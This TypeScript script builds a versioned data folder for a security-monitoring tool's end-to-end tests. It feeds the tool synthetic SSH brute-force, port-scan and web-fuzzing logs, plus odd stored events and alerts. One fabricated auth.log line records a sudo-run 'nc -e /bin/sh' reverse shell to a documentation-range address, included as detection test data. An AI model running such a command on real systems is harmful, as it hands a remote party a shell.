/**
 * Makes a small data folder of one version, for the tests of the versions after it:
 * `tsx --conditions=source e2e/data-folders/make-data-folder.ts CHECKOUT NAME`. It runs `soc` of a built
 * checkout on logs of all formats, adds with that checkout's own store what logs do not bring (a dead letter,
 * odd values, alerts in every state of their answer), and writes beside it what that code reads of it.
 */
import { execFileSync, spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import process from 'node:process';
import { setTimeout as sleep } from 'node:timers/promises';
import { pathToFileURL } from 'node:url';
import type * as DuckDb from '@mini-soc/store/duckdb';
import { createActor, syslogTime } from '../attacker.ts';

const [checkout = '.', name = 'present'] = process.argv.slice(2);
const target = path.join(import.meta.dirname, name);
const folder = mkdtempSync(path.join(tmpdir(), 'soc-folder-'));
const data = path.join(folder, 'data');
const logs = {
  auth: path.join(folder, 'auth.log'),
  ufw: path.join(folder, 'ufw.log'),
  web: path.join(folder, 'web-access.log'),
};
const json = path.join(folder, 'events.json');

async function run(variables: Readonly<Record<string, string>>, work: () => Promise<void>) {
  const child = spawn(
    process.execPath,
    [
      path.join(checkout, 'node_modules/.bin/soc'),
      ...['up', '--data', data, '--logs', logs.auth, logs.ufw, logs.web, json],
    ],
    {
      env: {
        PATH: process.env['PATH'] ?? '',
        LOG_LEVEL: 'warn',
        LOG_TIME_ZONE: 'UTC',
        DETECTION_PORT: '0',
        RESPONSE_PORT: '0',
        ENRICHER_PORT: '0',
        CONSOLE_PORT: '0',
        ...variables,
      },
      stdio: ['ignore', 'pipe', 'inherit'],
    },
  );
  const ended = new Promise((resolve) => child.once('exit', resolve));
  let output = '';
  child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
  while (!output.includes('Ready after')) await sleep(100);
  await work();
  child.kill('SIGTERM');
  await ended;
}

async function blocked(): Promise<readonly string[]> {
  const { urls } = JSON.parse(readFileSync(path.join(data, 'run.json'), 'utf8')) as {
    urls: { response: string };
  };
  const answer = await fetch(`${urls.response}/blocked?size=1000`);
  return ((await answer.json()) as { source_ip: string }[]).map((block) => block.source_ip);
}

function ordinaryLines(): void {
  for (let user = 0; user < 60; user += 1)
    createActor(`198.18.0.${user}`, logs).failsSsh(1, `person-${user}`);
  createActor('198.51.100.20', logs).scansPorts(40);
  createActor('198.51.100.21', logs).fuzzesWeb(40);
  const at = syslogTime(new Date());
  writeFileSync(
    logs.auth,
    [
      `${at} web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.99 4444`,
      `${at} web01 sshd[7]: message repeated 3 times: [ Failed password for bob from 198.18.1.1 port 22 ssh2]`,
      `${at} web01 systemd-logind[8]: New session 4 of user alice.`,
      '',
    ].join('\n'),
    { flag: 'a' },
  );
  const stamp = new Date().toISOString();
  writeFileSync(
    json,
    [
      {
        '@timestamp': stamp,
        log_type: 'windows',
        action: 'logon',
        status: 'failure',
        EventID: 4625,
      },
      { '@timestamp': stamp, message: 'a "quoted" 🦊', username: 'straße', deep: { a: [1, null] } },
    ]
      .map((event) => `${JSON.stringify(event)}\n`)
      .join(''),
  );
}

for (const file of [logs.auth, logs.ufw, logs.web, json]) writeFileSync(file, '');
// The first address is blocked for seconds and is free again at the end.
await run({ BLOCK_DURATION: '3s', SELF_TEST_INTERVAL: '1m' }, async () => {
  createActor('203.0.113.6', logs).failsSsh(12);
  while (!(await blocked()).includes('203.0.113.6')) await sleep(100);
  await sleep(6000);
});
let inForce: readonly string[] = [];
await run({ BLOCK_DURATION: '24h', SELF_TEST_INTERVAL: '0' }, async () => {
  createActor('203.0.113.7', logs).failsSsh(12);
  createActor('203.0.113.8', logs).failsSsh(30);
  ordinaryLines();
  while (!(await blocked()).includes('203.0.113.8')) await sleep(100);
  await sleep(8000);
  inForce = (await blocked()).toSorted();
});

const { openDuckDbStore } = (await import(
  pathToFileURL(path.resolve(checkout, 'packages/store/src/duckdb/index.ts')).href
)) as typeof DuckDb;
const store = await openDuckDbStore({ path: path.join(data, 'soc.duckdb') });
const stamp = new Date().toISOString();
const odd = (id: string, change: object) =>
  ({
    '@timestamp': stamp,
    event_id: id,
    message: id,
    log_type: 'auth',
    action: 'x',
    status: 'info',
    ...change,
  }) as never;
await store.appendEvents([
  odd('odd-nul', { username: 'ro\0ot', hostname: '' }),
  odd('odd-half', { username: '\ud800', command: 'a'.repeat(3000) }),
  odd('odd-type', { username: 5, http_status: '404', repeat_count: 1.5, flags: ['cut'] }),
  odd('odd-extra', { extra: { '': 1, 'k"k': [null, true], username: 'not this one' } }),
  odd('', {}),
]);
const [sample] = await store.searchAlerts({ size: 1, ruleName: 'BruteForceRule' });
if (sample === undefined) throw new Error('No alert was raised');
for (const state of ['pending', 'done', 'refused'] as const)
  await store.createAlerts([
    {
      ...sample.alert,
      alert_id: `made-${state}`,
      response: { ...sample.alert.response, state },
    },
  ]);

const expected = [
  ...(await store.searchEvents({ size: 100_000, order: 'oldest' })).map((event) => ({ event })),
  ...(await store.searchAlerts({ size: 10_000 }))
    .toSorted((a, b) => (a.alert.alert_id < b.alert.alert_id ? -1 : 1))
    .map(({ alert, version }) => ({ alert, version })),
  ...(await store.listBlocks(10_000)).map((block) => ({ block })),
  { ledger: { at: stamp, in_force: inForce } },
];
await store.close();

mkdirSync(target, { recursive: true });
writeFileSync(
  path.join(target, 'expected.ndjson'),
  expected.map((line) => `${JSON.stringify(line)}\n`).join(''),
);
execFileSync('tar', ['-czf', path.join(target, 'data.tar.gz'), '-C', folder, 'data']);
rmSync(folder, { recursive: true });
process.stdout.write(`${expected.length} documents in ${target}\n`);
